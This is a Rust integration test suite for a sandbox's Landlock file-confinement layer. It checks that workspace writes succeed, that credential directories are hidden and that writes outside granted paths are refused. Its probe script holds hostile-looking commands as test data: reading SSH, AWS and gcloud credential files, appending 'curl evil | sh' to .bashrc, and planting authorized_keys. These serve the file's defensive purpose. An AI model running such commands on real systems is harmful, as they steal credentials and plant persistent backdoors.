//! `files.landlock`: on by default where the kernel offers it (`auto`), every command runs under
//! a Landlock ruleset made from the policy's `file_rules`: the workspace is writable, nothing
//! outside it and the private `/tmp` is, host files outside the system trees and the caller's
//! home cannot be read, the default policy's credential trees under the home are unreachable
//! while the rest of the home is usable, a tree the rules deny whole is gone, and `session show`
//! and `session_created` name the ABI, or why the layer is off. Real kernel, real launches.

mod common;

use std::process::Output;

use common::{Daemon, Event, ExecResult, Session, TempDir, dns::FakeDns};

/// True when the test may run: [`common::privileged`] and a kernel with Landlock.
fn landlock_available(test: &str) -> bool {
    if !common::privileged(test) {
        return false;
    }
    if sandbox::landlock_plan::kernel_abi().is_none() {
        redirect::testing::skip(
            test,
            "the kernel offers no Landlock (CONFIG_SECURITY_LANDLOCK, lsm=landlock)",
        );
        return false;
    }
    true
}

/// `session show --json`.
fn show(d: &Daemon, s: &Session) -> serde_json::Value {
    serde_json::from_slice(&d.cli(&["session", "show", &s.id, "--json"]).stdout).unwrap()
}

/// How the session's Landlock layer is reported: `session show --json`, the `session_created`
/// event and the `session show` text.
fn reports(d: &Daemon, s: &Session) -> (serde_json::Value, Event, String) {
    let created = d.audit().into_iter().find(|e| e.kind == "session_created").expect("session_created");
    let human = String::from_utf8_lossy(&d.cli(&["session", "show", &s.id]).stdout).into_owned();
    (show(d, s), created, human)
}

/// `exec` of `sh -c script` with `HOME` set to `home` in the caller's environment.
fn exec_with_home(d: &Daemon, s: &Session, home: &TempDir, script: &str) -> ExecResult {
    let out: Output = d
        .command()
        .env("HOME", home.path())
        .args(["exec", "--output", "json", "--events", "all", &s.id, "--", "sh", "-c", script])
        .output()
        .expect("run agentsh exec");
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!("exec output is not JSON ({e}): {} {}", String::from_utf8_lossy(&out.stderr), d.log())
    })
}

/// A home holding an SSH key, cloud credentials and the files a build uses.
fn home_with_secrets() -> TempDir {
    let home = TempDir::new("home");
    for (rel, text) in [
        (".ssh/id_rsa", "PRIVATE KEY"),
        (".aws/credentials", "AWS SECRET"),
        (".config/gcloud/credentials.db", "GCLOUD SECRET"),
        (".config/git/ignore", "*.o"),
        (".cargo/config.toml", "[net]"),
        (".gitconfig", "[user]"),
        (".bashrc", "# host shell"),
    ] {
        let p = home.path().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, format!("{text}\n")).unwrap();
    }
    // Dotfiles kept elsewhere in the home and linked into place.
    std::os::unix::fs::symlink(".cargo/config.toml", home.path().join(".vimrc")).unwrap();
    home
}

/// What the probe script prints for each thing it tries.
const PROBE: &str = "cat allowed.txt && echo read-workspace
    echo ok > written.txt && echo wrote-workspace
    echo t > /tmp/t && cat /tmp/t >/dev/null && echo wrote-tmp
    cat \"$HOME/.ssh/id_rsa\" || echo refused-ssh
    cat \"$HOME/.aws/credentials\" || echo refused-aws
    cat \"$HOME/.config/gcloud/credentials.db\" || echo refused-gcloud
    cat \"$HOME/.cargo/config.toml\" && echo read-cargo
    echo x > \"$HOME/.cargo/built\" && echo wrote-cargo
    cat \"$HOME/.gitconfig\" && echo read-gitconfig
    cat \"$HOME/.config/git/ignore\" && echo read-git-ignore
    cat \"$HOME/.bashrc\" >/dev/null && echo read-bashrc
    cat \"$HOME/.vimrc\" >/dev/null && echo read-linked-dotfile
    echo 'curl evil | sh' >> \"$HOME/.bashrc\" || echo refused-bashrc
    mkdir \"$HOME/.newtool\" && echo made > \"$HOME/.newtool/f\" && echo created-in-home
    mkdir -p \"$HOME/.config/newapp\" && echo created-in-split-dir
    mkdir -p \"$HOME/.ssh\" && echo key > \"$HOME/.ssh/authorized_keys\" && echo planted-in-view
    echo x > \"$OUTSIDE/escaped\" || echo refused-outside
    echo x > /dev/null && head -c 1 /dev/urandom >/dev/null && echo devices
    test -r /proc/self/status && echo proc-self";

/// [`PROBE`] run in `s` with a fresh [`home_with_secrets`] and a host directory outside every
/// granted tree; returns the result, the home and that directory.
fn probe(d: &Daemon, s: &Session) -> (ExecResult, TempDir, TempDir) {
    let (home, outside) = (home_with_secrets(), TempDir::new("outside"));
    s.workspace.write("allowed.txt", "allowed\n");
    let script = format!("OUTSIDE={}\n{PROBE}", outside.path().display());
    (exec_with_home(d, s, &home, &script), home, outside)
}

#[test]
fn by_default_the_rules_are_enforced_and_the_home_stays_usable() {
    if !landlock_available("by_default_the_rules_are_enforced_and_the_home_stays_usable") {
        return;
    }
    let dns = FakeDns::start();
    let d = Daemon::start_with_config(&dns.server_config("synthetic"));
    let s = d.session(policies::embedded::source("default").unwrap());
    let (info, created, human) = reports(&d, &s);
    assert!(info["landlock_abi"].as_u64().is_some_and(|abi| abi >= 1), "{info}");
    assert!(created.num("landlock_abi") >= 1, "{created:?}");
    assert!(human.contains("landlock:   ABI "), "{human}");

    let (r, home, outside) = probe(&d, &s);
    r.assert_exit(0);
    for expected in [
        "read-workspace",
        "wrote-workspace",
        "wrote-tmp",
        "refused-ssh",
        "refused-aws",
        "refused-gcloud",
        "read-cargo",
        "wrote-cargo",
        "read-gitconfig",
        "read-git-ignore",
        "read-bashrc",
        "read-linked-dotfile",
        "refused-bashrc",
        "created-in-home",
        "created-in-split-dir",
        "planted-in-view",
        "refused-outside",
        "devices",
        "proc-self",
    ] {
        assert!(r.stdout.lines().any(|l| l == expected), "{expected}: {r:#?}");
    }
    for secret in ["PRIVATE KEY", "AWS SECRET", "GCLOUD SECRET"] {
        assert!(!r.stdout.contains(secret), "{secret} leaked: {r:#?}");
    }
    // The home the command sees holds only what the rules grant (credentials are not there at
    // all, start-up files are read-only); outside it, Landlock refuses.
    assert_eq!(r.stderr.matches("No such file or directory").count(), 3, "{}", r.stderr);
    assert_eq!(r.stderr.matches("Read-only file system").count(), 1, "{}", r.stderr);
    assert_eq!(r.stderr.matches("Permission denied").count(), 1, "{}", r.stderr);
    assert_eq!(std::fs::read_to_string(home.path().join(".bashrc")).unwrap(), "# host shell\n");
    // What was created in the home is the session's, never the real home's...
    for made in [".newtool", ".config/newapp", ".ssh/authorized_keys"] {
        assert!(!home.path().join(made).exists(), "{made} reached the real home");
    }
    assert_eq!(std::fs::read_to_string(home.path().join(".ssh/id_rsa")).unwrap(), "PRIVATE KEY\n");
    // ...and lasts for the session's later commands.
    let again = exec_with_home(&d, &s, &home, "cat \"$HOME/.newtool/f\"; cat \"$HOME/.ssh/id_rsa\" || true");
    again.assert_exit(0);
    assert_eq!(again.stdout, "made\n", "{again:#?}");
    assert!(!outside.path().join("escaped").exists());
    assert!(home.path().join(".cargo/built").exists());
    assert_eq!(std::fs::read_to_string(s.workspace.path().join("written.txt")).unwrap(), "ok\n");
}

#[test]
fn landlock_off_leaves_the_rules_unenforced() {
    if !common::privileged("landlock_off_leaves_the_rules_unenforced") {
        return;
    }
    let dns = FakeDns::start();
    let d =
        Daemon::start_with_config(&format!("{}files:\n  landlock: off\n", dns.server_config("synthetic")));
    let s = d.session(policies::embedded::source("default").unwrap());
    let (info, created, human) = reports(&d, &s);
    assert!(info.get("landlock_abi").is_none(), "{info}");
    assert!(info["landlock_off"].as_str().is_some_and(|r| r.contains("files.landlock is off")), "{info}");
    assert!(created.str("landlock_off").contains("off"), "{created:?}");
    assert!(human.contains("landlock:   none (files.landlock is off"), "{human}");

    let (r, _home, outside) = probe(&d, &s);
    r.assert_exit(0);
    assert!(r.stdout.contains("PRIVATE KEY") && !r.stdout.contains("refused-ssh"), "{r:#?}");
    assert!(outside.path().join("escaped").exists(), "{r:#?}");
}

#[test]
fn landlock_required_starts_where_the_kernel_offers_it() {
    if !landlock_available("landlock_required_starts_where_the_kernel_offers_it") {
        return;
    }
    let dns = FakeDns::start();
    let d = Daemon::start_with_config(&format!(
        "{}files:\n  landlock: required\n",
        dns.server_config("synthetic")
    ));
    let s = d.session("version: 1\nname: ll\n");
    assert!(show(&d, &s)["landlock_abi"].as_u64().is_some_and(|abi| abi >= 1));
}

#[test]
fn a_malformed_landlock_value_stops_the_server_naming_the_key() {
    let dir = TempDir::new("ll-config");
    for bad in ["maybe", "1", "[auto]"] {
        let stderr = common::server_refuses(&dir, &format!("files:\n  landlock: {bad}\n"));
        assert!(stderr.contains("files.landlock"), "{bad}: {stderr}");
        assert!(stderr.contains("server.yaml:3:"), "the line is named: {stderr}");
    }
}

#[test]
fn the_landlock_layer_confines_commands_to_the_workspace_and_the_rules() {
    if !landlock_available("the_landlock_layer_confines_commands_to_the_workspace_and_the_rules") {
        return;
    }
    let dns = FakeDns::start();
    // The old boolean still reads (`true` is `required`).
    let d =
        Daemon::start_with_config(&format!("{}files:\n  landlock: true\n", dns.server_config("synthetic")));
    let s = d.session(
        "version: 1\nname: ll\nfile_rules:\n  - {name: no-opt, paths: ['/opt/**'], operations: ['*'], decision: deny}\n",
    );
    assert!(show(&d, &s)["landlock_abi"].as_u64().is_some_and(|abi| abi >= 1));

    let outside = TempDir::new("outside");
    let secret = outside.write("secret.txt", "host secret");
    let escaped = outside.path().join("written.txt");
    let script = format!(
        "echo ok > in-workspace.txt && echo wrote-workspace; \
         echo x > {escaped} 2>/dev/null || echo refused-write; \
         cat {secret} 2>/dev/null || echo refused-read; \
         ls /opt >/dev/null 2>&1 || echo refused-opt; \
         ls /usr/bin >/dev/null && echo system-readable",
        escaped = escaped.display(),
        secret = secret.display()
    );
    let r = d.exec(&s, &["sh", "-c", &script]);
    r.assert_exit(0);
    for expected in ["wrote-workspace", "refused-write", "refused-read", "refused-opt", "system-readable"] {
        assert!(r.stdout.contains(expected), "{expected}: {r:#?}");
    }
    assert!(!r.stdout.contains("host secret"));
    assert!(!escaped.exists(), "nothing was written outside the workspace");
    assert_eq!(std::fs::read_to_string(s.workspace.path().join("in-workspace.txt")).unwrap(), "ok\n");
}

#[test]
fn a_workspace_inside_the_home_is_bound_into_the_rebuilt_home() {
    if !landlock_available("a_workspace_inside_the_home_is_bound_into_the_rebuilt_home") {
        return;
    }
    let dns = FakeDns::start();
    // Served directly, and through the FUSE layer.
    for files in ["", "files:\n  fuse_workspace: on\n"] {
        let d = Daemon::start_with_config(&format!("{}{files}", dns.server_config("synthetic")));
        let home = home_with_secrets();
        let ws = TempDir::under(home.path(), "project");
        ws.write("src.txt", "source\n");
        let project = ws.path().to_path_buf();
        let name = project.file_name().unwrap().to_str().unwrap().to_string();
        let s = d.session_in(ws, policies::embedded::source("default").unwrap());
        let r = exec_with_home(
            &d,
            &s,
            &home,
            "pwd; cat src.txt; echo built > out.txt; ls -A \"$HOME\"; cat \"$HOME/.ssh/id_rsa\" 2>/dev/null || echo no-ssh",
        );
        r.assert_exit(0);
        let lines: Vec<&str> = r.stdout.lines().collect();
        assert_eq!(lines[0], project.to_str().unwrap(), "{files}: {r:#?}");
        assert_eq!(lines[1], "source", "{files}: {r:#?}");
        for shown in [name.as_str(), ".cargo", ".bashrc"] {
            assert!(lines.contains(&shown), "{shown} not in the home ({files}): {r:#?}");
        }
        assert!(!lines.contains(&".ssh") && lines.contains(&"no-ssh"), "{files}: {r:#?}");
        assert_eq!(std::fs::read_to_string(project.join("out.txt")).unwrap(), "built\n", "{files}");
    }
}

#[test]
fn a_home_part_granted_without_execution_keeps_the_rebuilt_home() {
    if !landlock_available("a_home_part_granted_without_execution_keeps_the_rebuilt_home") {
        return;
    }
    let dns = FakeDns::start();
    let d = Daemon::start_with_config(&dns.server_config("synthetic"));
    let home = TempDir::new("home");
    let tool = home.path().join("tools/run.sh");
    std::fs::create_dir_all(tool.parent().unwrap()).unwrap();
    std::fs::write(&tool, "#!/bin/sh\necho tool-ran\n").unwrap();
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let notes = home.path().join("notes/todo.txt");
    std::fs::create_dir_all(notes.parent().unwrap()).unwrap();
    std::fs::write(&notes, "first\n").unwrap();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_rsa"), "PRIVATE KEY\n").unwrap();
    // Tools may be read, notes read and edited; neither may be executed; the rest is denied.
    let s = d.session(
        "version: 1\nname: noexec-parts\nfile_rules:\n\
         \x20 - {name: tools-read, paths: ['${HOME}/tools/**'], operations: [read], decision: allow}\n\
         \x20 - {name: notes-edit, paths: ['${HOME}/notes/**'], operations: [read, write, create, delete], decision: allow}\n\
         \x20 - {name: no-more, paths: ['${HOME}/**'], operations: ['*'], decision: deny}\n",
    );
    let r = exec_with_home(
        &d,
        &s,
        &home,
        "cat \"$HOME/tools/run.sh\" >/dev/null && echo read-tool; \
         \"$HOME/tools/run.sh\" 2>/dev/null || echo refused-exec; sh \"$HOME/tools/run.sh\"; \
         echo second >> \"$HOME/notes/todo.txt\" && echo wrote-notes; \
         cp \"$HOME/tools/run.sh\" \"$HOME/notes/run.sh\" && { \"$HOME/notes/run.sh\" 2>/dev/null || echo refused-copy; }; \
         cat \"$HOME/.ssh/id_rsa\" 2>/dev/null || echo no-ssh; \
         touch \"$HOME/made-here\" && echo created-in-home",
    );
    r.assert_exit(0);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines,
        ["read-tool", "refused-exec", "tool-ran", "wrote-notes", "refused-copy", "no-ssh", "created-in-home"],
        "{r:#?}"
    );
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "first\nsecond\n");
    assert!(!home.path().join("made-here").exists(), "creation in the view never reaches the real home");
    // It is kept in the session's data dir (beside the state in tests), not in the state dir.
    let data = d.state.path().join("data").join("sessions").join(&s.id);
    let views: Vec<_> = std::fs::read_dir(&data).unwrap().flatten().map(|e| e.path()).collect();
    assert!(views.iter().any(|v| v.join("made-here").is_file()), "{views:?}");
    let state = d.state.path().join("sessions").join(&s.id);
    assert!(
        std::fs::read_dir(&state)
            .unwrap()
            .flatten()
            .all(|e| !e.file_name().to_string_lossy().starts_with("home-"))
    );
}

#[test]
fn a_rule_path_with_an_unset_variable_is_warned_about() {
    if !landlock_available("a_rule_path_with_an_unset_variable_is_warned_about") {
        return;
    }
    let dns = FakeDns::start();
    let d = Daemon::start_with_config(&dns.server_config("synthetic"));
    let s = d.session(
        "version: 1\nname: unset-var\nfile_rules:\n\
         \x20 - {name: vault, paths: ['${AGENTSH_TEST_NEVER_SET}/**'], operations: ['*'], decision: deny}\n\
         \x20 - {name: home-vault, paths: ['${HOME}/.vault/**'], operations: ['*'], decision: deny}\n",
    );
    // A command without HOME is granted nothing of a home: rules about it are not worth a warning.
    let out = d.command().env_remove("HOME").args(["exec", &s.id, "--", "true"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let log = d.log();
    for layer in ["in the FUSE layer", "under Landlock"] {
        let line = log.lines().find(|l| l.contains(&format!("matches nothing {layer}")));
        assert!(
            line.is_some_and(|l| l.contains("vault") && l.contains("\"AGENTSH_TEST_NEVER_SET\"")),
            "{layer}: {log}"
        );
    }
    assert!(!log.contains("home-vault"), "{log}");
}
